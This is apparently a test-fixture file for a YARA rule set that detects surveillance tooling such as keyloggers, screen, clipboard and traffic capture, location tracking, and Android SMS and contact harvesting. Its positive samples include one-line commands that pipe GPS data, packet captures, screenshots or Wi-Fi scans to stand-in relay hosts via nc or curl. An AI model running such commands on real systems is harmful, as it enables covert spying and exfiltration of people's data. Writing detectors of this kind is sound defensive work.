"""Contents for the rules of ``surveillance.yar``."""

from __future__ import annotations

from typing import Final

from tests.rules_vehicle.contents import Case, elf, gbk, hexa, pe, python, script, wide

POST = "POST /v1/x HTTP/1.1"

CASES: Final[tuple[Case, ...]] = (
    Case(
        "surv_motion_program",
        (
            b"target_dir /var/lib/motion\nnetcam_url rtsp://10.0.0.4/\non_movie_end /bin/up %f\n",
            elf("movie_output", "on_event_start", "on_event_end", "stream_port"),
        ),
        (b"target_dir /var/lib\n", b"picture_output\non_movie_end\n"),
    ),
    Case(
        "surv_camera_server",
        (
            elf("/dev/video%d", "VIDIOC_STREAMON", "multipart/x-mixed-replace; boundary=x"),
            elf("v4l2src ! x264enc", "gst_rtsp_server_new"),
        ),
        (elf("/dev/video0"), elf("multipart/x-mixed-replace")),
    ),
    Case(
        "surv_camera_stream_command",
        (
            script("ffmpeg -f v4l2 -i /dev/video0 -c:v h264 -f flv rtmp://in.invalid/live/a\n"),
            script("gst-launch-1.0 v4l2src ! jpegenc ! udpsink host=198.51.100.7\n"),
            script("fswebcam /tmp/a.jpg && curl -T /tmp/a.jpg ftp://in.invalid/\n"),
        ),
        (
            script("ffmpeg -f v4l2 -i /dev/video0 out.mp4\n"),
            script("gst-launch-1.0 v4l2src ! autovideosink\n"),
            script("fswebcam /tmp/a.jpg\n"),
        ),
    ),
    Case(
        "surv_camera_p2p",
        (
            elf("IOTC_Initialize2", "IOTC_Device_Login", "avServStart3"),
            elf("m1.iotcplatform.com"),
            elf("PPCS_Initialize", "PPCS_Listen"),
        ),
        (elf("IOTC_Listen"), elf("PPP_Initialize", "PPP_Listen")),
    ),
    Case(
        "surv_video_terminal",
        (
            elf("jt1078_push", "real_time_av_request"),
            hexa("3031636481620001013900000000"),
            gbk("实时音视频传输请求"),
        ),
        (elf("jt1078"), b"01cd is a number", elf("real_time_video")),
    ),
    Case(
        "surv_audio_program",
        (
            elf("snd_pcm_open", "snd_pcm_readi", "curl_easy_perform"),
            elf("Landroid/media/AudioRecord;", "startRecording", "okhttp3"),
        ),
        (elf("snd_pcm_open", "snd_pcm_writei", "curl_easy_perform"), elf("snd_pcm_readi")),
    ),
    Case(
        "surv_audio_windows",
        (pe("waveInOpen", "waveInStart", "WinHttpSendRequest"),),
        (pe("waveOutOpen", "WinHttpSendRequest"), elf("waveInOpen", "waveInStart", "send")),
    ),
    Case(
        "surv_place_receiver",
        (
            elf("gpsd_open", "/run/gpsd.sock", "gpsd://"),
            elf("/dev/ttyGPS0", "open: %s"),
            elf("$GPRMC,", "$GPGGA,", "$GNGSV,"),
        ),
        (elf("gpsd://"), b"gps is a satellite system", elf("$GPRMC,")),
    ),
    Case(
        "surv_place_upload_script",
        (
            script("gpspipe -w -n 5 | nc relay.invalid 9000\n"),
            script('l=$(mmcli -m 0 --location-get)\ncurl -d "$l" https://in.invalid/p\n'),
        ),
        (script("gpspipe -r > /tmp/log\n"), script("curl -d x https://in.invalid/p\n")),
    ),
    Case(
        "surv_place_history",
        (
            elf(
                "CREATE TABLE IF NOT EXISTS trip_points (id INTEGER, vin TEXT, ts INTEGER,"
                " latitude REAL, longitude REAL)"
            ),
            elf('{"vin":"%s","ts":%ld,"lat":%.6f,"lon":%.6f}'),
            elf("/up?imei=%s&t=%ld&lat=%f&lon=%f"),
        ),
        (elf("CREATE TABLE t (latitude REAL, longitude REAL)"), elf('{"lat":%f,"lon":%f}')),
    ),
    Case(
        "surv_keylog_windows",
        (
            pe(
                "SetWindowsHookExA",
                "GetForegroundWindow",
                "[ENTER]",
                "[BACKSPACE]",
                "[CTRL]",
                "[CAPSLOCK]",
            ),
        ),
        (pe("SetWindowsHookExA", "[ENTER]"), elf("GetAsyncKeyState", "[ENTER][CTRL][SHIFT]")),
    ),
    Case(
        "surv_keylog_script",
        (
            python("from pynput import keyboard\nf = open('/tmp/.k', 'a')\n"),
            script("showkey --ascii >> /var/tmp/.k &\n"),
        ),
        (python("from pynput import mouse\n"), python("import evdev\n"), script("showkey\n")),
    ),
    Case(
        "surv_screen_command",
        (
            script("ffmpeg -f x11grab -i :0 -f mpegts udp://198.51.100.7:1234\n"),
            script("scrot /tmp/s.png && curl -F f=@/tmp/s.png https://in.invalid/\n"),
            b"$g.CopyFromScreen(0,0,0,0,$b.Size)\r\n$w.UploadFile($u,$p)\r\n",
        ),
        (script("scrot /tmp/s.png\n"), b"$g.CopyFromScreen(0,0,0,0,$b.Size)\r\n"),
    ),
    Case(
        "surv_screen_windows",
        (pe("GetDC", "BitBlt", "GetDIBits", "WinHttpSendRequest", "screen_capture_task"),),
        (pe("GetDC", "BitBlt", "GetDIBits", "WinHttpSendRequest"), pe("BitBlt", "screenshot")),
    ),
    Case(
        "surv_clipboard",
        (
            pe("AddClipboardFormatListener", "GetClipboardData", "WinHttpSendRequest"),
            script("while :; do xclip -o >> /tmp/.c; sleep 5; done\n"),
        ),
        (pe("GetClipboardData", "WinHttpSendRequest"), script("echo a | xclip -i\n")),
    ),
    Case(
        "surv_capture_command",
        (
            script("tcpdump -i any -w /data/cap.pcap -G 60 &\n"),
            elf("tcpdump -i br0 -w /tmp/x.pcap &"),
            script("sudo tcpdump -U -w - | nc relay.invalid 9\n"),
        ),
        (script("# use tcpdump -w file\n"), script("tcpdump -n -c 5\n"), b"tcpdump -w /tmp/x\n"),
    ),
    Case(
        "surv_capture_program",
        (
            elf("pcap_open_live", "pcap_dump_open", "curl_easy_perform"),
            python("sniff(iface='br0', prn=got)\nrequests.post(URL, data=b)\n"),
        ),
        (elf("pcap_open_live", "pcap_loop"), python("sniff(iface='br0', count=1)\n")),
    ),
    Case(
        "surv_wifi_monitor",
        (
            script("iw dev wlan0 set type monitor\n"),
            script("iwconfig wlan0 mode monitor\n"),
            elf("probe_request_report", "%02x:%02x"),
        ),
        (script("iw dev wlan0 set type managed\n"), elf("probe_request")),
    ),
    Case(
        "surv_radio_scan_upload",
        (
            script("iwlist wlan0 scan | nc relay.invalid 99\n"),
            script("hcitool lescan > /tmp/b & sleep 9\ncurl -T /tmp/b https://in.invalid/b\n"),
        ),
        (script("iwlist wlan0 scan\n"), script("curl -T /tmp/b https://in.invalid/b\n")),
    ),
    Case(
        "surv_identity_report",
        (
            elf('{"imei":"%s","iccid":"%s","vin":"%s"}'),
            elf("/reg?imei=%s&imsi=%s&mac=%s"),
        ),
        (elf('{"imei":"%s"}'), b'{"imei": {"type": "string"}, "imsi": {}, "iccid": {}}'),
    ),
    Case(
        "surv_android_permissions",
        (
            wide(
                "android.permission.INTERNET",
                "android.permission.RECEIVE_BOOT_COMPLETED",
                "android.permission.ACCESS_BACKGROUND_LOCATION",
                "android.permission.RECORD_AUDIO",
            ),
        ),
        (
            wide("android.permission.INTERNET", "android.permission.ACCESS_BACKGROUND_LOCATION"),
            wide("android.permission.RECORD_AUDIO", "android.permission.CAMERA"),
        ),
    ),
    Case(
        "surv_android_records",
        (
            elf("content://sms", "content://call_log/calls", "Ljava/net/HttpURLConnection;"),
            elf("Landroid/provider/ContactsContract;", "uploadContacts", "okhttp3/OkHttpClient"),
        ),
        (elf("content://sms", "okhttp3/"), elf("Landroid/provider/CallLog;", "syncContacts")),
    ),
    Case(
        "surv_phonebook_bluetooth",
        (
            elf("telecom/pb.vcf", "x-bt/phonebook", "curl_easy_perform"),
            elf("org.bluez.obex.PhonebookAccess1", "upload_phonebook_to_cloud"),
        ),
        (elf("telecom/pb.vcf", "x-bt/phonebook"), elf("curl_easy_perform", "phonebook")),
    ),
    Case(
        "surv_cabin_video_upload",
        (
            elf("dashcam_event", "upload_video_to_cloud", "curl_easy_perform"),
            elf("in_cabin_camera", "remote_snapshot", POST),
            elf("车内摄像头", "upload_snapshot", "mqtt_publish"),
        ),
        (elf("rear_camera", "curl_easy_perform"), elf("dashcam_event", "upload_video")),
    ),
    Case(
        "surv_driver_monitoring_upload",
        (elf("driver_fatigue_level", "upload_face_image", POST),),
        (elf("driver_fatigue_level", POST), elf("faceID", "sendEvents", POST)),
    ),
    Case(
        "surv_face_plate_upload",
        (
            elf("hyperlpr", "plate_no", "report_plate_record", POST),
            elf("人脸识别", "upload_face_image", "curl_easy_perform"),
        ),
        (elf("plate_no", POST), elf("face_detect", "upload_log", POST)),
    ),
    Case(
        "surv_scan_image_upload",
        (
            script("storescu -aec ARCHIVE 198.51.100.7 104 /data/a.dcm\n"),
            script("scp /data/cargo/0001.tif u@in.invalid:/in/\n"),
            b"robocopy D:\\xray_images \\\\198.51.100.7\\in /MIR\r\n",
        ),
        (script("scp /etc/config u@in.invalid:\n"), script("storescu --help\n")),
    ),
    Case(
        "surv_scan_image_program",
        (
            pe("cargo_image", "upload_scan_image_to_center"),
            wide("扫描图像上传"),
            elf("DICOS", "curl_easy_perform"),
        ),
        (pe("cargo_image", "save_image"), elf("indicos", "curl_easy_perform")),
    ),
    Case(
        "surv_video_stream",
        (script("gst v4l2src ! rtmpsink location=rtmp://in.invalid/a\n"),),
        (elf("v4l2src"), elf("rtmp://in.invalid/a")),
    ),
    Case(
        "surv_audio_record",
        (script("arecord -D hw:0 -d 60 /tmp/a.wav\n"),),
        (script("aplay /tmp/a.wav\n"),),
    ),
    Case(
        "surv_keylog",
        (elf("/dev/input/event%d", "keylog started"),),
        (elf("/dev/input/event%d"), elf("keylogic")),
    ),
    Case(
        "surv_location_upload",
        (elf("$GNRMC", '{"lat":%.6f,"lon":%.6f}', "MQTTClient_publish"),),
        (elf("$GNRMC", "MQTTClient_publish"), elf("lat=%f", "MQTTClient_publish")),
    ),
)
